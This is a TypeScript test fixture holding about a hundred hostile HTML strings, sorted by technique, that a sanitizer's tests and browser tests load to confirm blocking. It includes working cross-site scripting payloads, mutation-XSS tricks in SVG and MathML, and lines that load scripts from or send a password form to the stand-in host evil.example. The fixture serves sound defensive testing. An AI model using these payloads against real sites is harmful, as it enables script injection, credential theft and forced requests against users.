/**
 * HTML that tries to run code, each item in a different way. The sanitizer's tests use it, and the browser
 * tests load each item into a real browser. An item that gets through calls `alert`, or `window.__hit` where
 * it can.
 */
export const hostileHtml: readonly string[] = [
  ...plainScripts(),
  ...eventHandlers(),
  ...addresses(),
  ...framesAndDocuments(),
  ...foreignContent(),
  ...parserConfusion(),
  ...stylesAndForms(),
  ...pictures(),
]

function plainScripts(): string[] {
  return [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<script >alert(1)</script >',
    '<script/x>alert(1)</script/x>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script\x00>alert(1)</script\x00>',
    '<<script>alert(1)//<</script>',
    '<script>alert(1)',
    '<p>one<script type="module">import("//evil.example/x.js")</script>two</p>',
    '<script nonce="a" integrity="b">window.__hit=1</script>',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  ]
}

function eventHandlers(): string[] {
  return [
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="window.__hit=1">',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x onerror\n=alert(1)>',
    '<img src=x OnErRoR=alert(1)>',
    '<img src=x one\x00rror=alert(1)>',
    '<p onclick="alert(1)">press</p>',
    '<p onmouseover=alert(1) style="position:fixed;inset:0">all</p>',
    '<a href="https://example.com" onfocus=alert(1) autofocus tabindex=1>x</a>',
    '<body onload=alert(1)>',
    '<details open ontoggle=alert(1)><summary>x</summary></details>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror=alert(1)>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<td colspan="2" onpointerrawupdate=alert(1)>x</td>',
    '<p popover id=p onbeforetoggle=alert(1)>x</p><button popovertarget=p>press</button>',
    '<p oncontentvisibilityautostatechange=alert(1) style="content-visibility:auto">x</p>',
    '<a href="https://example.com"onclick=alert(1)>x</a>',
    '<p title="x" / onclick=alert(1)>x</p>',
  ]
}

function addresses(): string[] {
  return [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script&colon;alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="\\\\evil.example/">x</a>',
    '<a href="https:evil">x</a>',
    '<a href="https://gst.example@evil.example/">x</a>',
    '<a href="view-source:https://example.com">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://example.com/1">x</a>',
    '<a href="feed:javascript:alert(1)">x</a>',
    '<a href="/api/v1/auth/logout">x</a>',
    '<a href="https://example.com" target="_self" rel="opener">x</a>',
    '<a href="https://example.com" ping="https://evil.example/" download>x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<a href="https://example.com/&quot; onclick=&quot;alert(1)">x</a>',
  ]
}

function framesAndDocuments(): string[] {
  return [
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe><img src=x onerror=alert(1)></iframe>',
    '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<object data="data:text/html,<script>alert(1)</script>"><p>fallback</p></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x"></applet>',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<portal src="https://evil.example/"></portal>',
    '<fencedframe src="https://evil.example/"></fencedframe>',
    '<template shadowrootmode="open"><script>alert(1)</script></template>',
    '<p is="x-evil" slot="y" id="root" name="csrf">x</p>',
  ]
}

function foreignContent(): string[] {
  return [
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><script href="data:,alert(1)" /></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
    '<svg><a><animate attributeName=href values="#a;javascript:alert(1)"/><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"/></svg>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math href="javascript:alert(1)">x</math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>',
  ]
}

function parserConfusion(): string[] {
  return [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    '<style><p title="</style><img src=x onerror=alert(1)>"></style>',
    '<plaintext><img src=x onerror=alert(1)>',
    '<select><option>&lt;img src=x onerror=alert(1)&gt;</option></select>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<!--!><img src=x onerror=alert(1)>-->',
    '<!-- --!><img src=x onerror=alert(1)> -->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
    '<?xml version="1.0"?><?x <img src=x onerror=alert(1)>?>',
    '</p/><img src=x onerror=alert(1)>',
    '<p title="<img src=x onerror=alert(1)>" title=\'"><img src=x onerror=alert(1)>\'>x</p>',
    '<a href="https://example.com" title="`><img src=x onerror=alert(1)>`">x</a>',
    '<img alt="` onerror=alert(1) `" src=x>',
    '<p><span><p><span><p><img src=x onerror=alert(1)>',
    '<table><td><p><table><a href="javascript:alert(1)"><table><img src=x onerror=alert(1)>',
    '<img src="x" alt="</textarea></style></script><script>alert(1)</script>">',
    '<p \ud800onclick=alert(1)>x</p><img src=x\u2028onerror=alert(1)>',
    '<img src=x onerror=alert(1)//',
    '<a href="https://example.com\n/<script>alert(1)</script>">x</a>',
  ]
}

function stylesAndForms(): string[] {
  return [
    '<style>@import "//evil.example/x.css";</style>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p style="width:expression(alert(1))" class="modal">x</p>',
    '<p style="position:fixed;inset:0;z-index:9999">cover</p>',
    '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)" type=submit>',
    '<p contenteditable accesskey=x draggable=true data-react="x">x</p>',
    '<td rowspan="65534" colspan="1000">x</td>',
    '<td colspan="1e3" rowspan="-1">x</td>',
  ]
}

function pictures(): string[] {
  return [
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="/uploads//evil.example/pixel.gif">',
    '<img src="/uploads/../api/v1/auth/logout">',
    '<img src="/uploads/%2e%2e/api/v1/auth/logout">',
    '<img src="/api/v1/auth/logout">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img srcset="https://evil.example/a.png 1x" src="javascript:alert(1)">',
    '<img src="/uploads/0123456789abcdef0123456789abcdef.webp" width="100%" height="999999" onload=alert(1)>',
    '<picture><source srcset="https://evil.example/a.png"><img src=x></picture>',
    '<image src=x onerror=alert(1)>',
    '<img src="/uploads/0123456789abcdef0123456789abcdef.webp" usemap="#m" ismap crossorigin>',
  ]
}
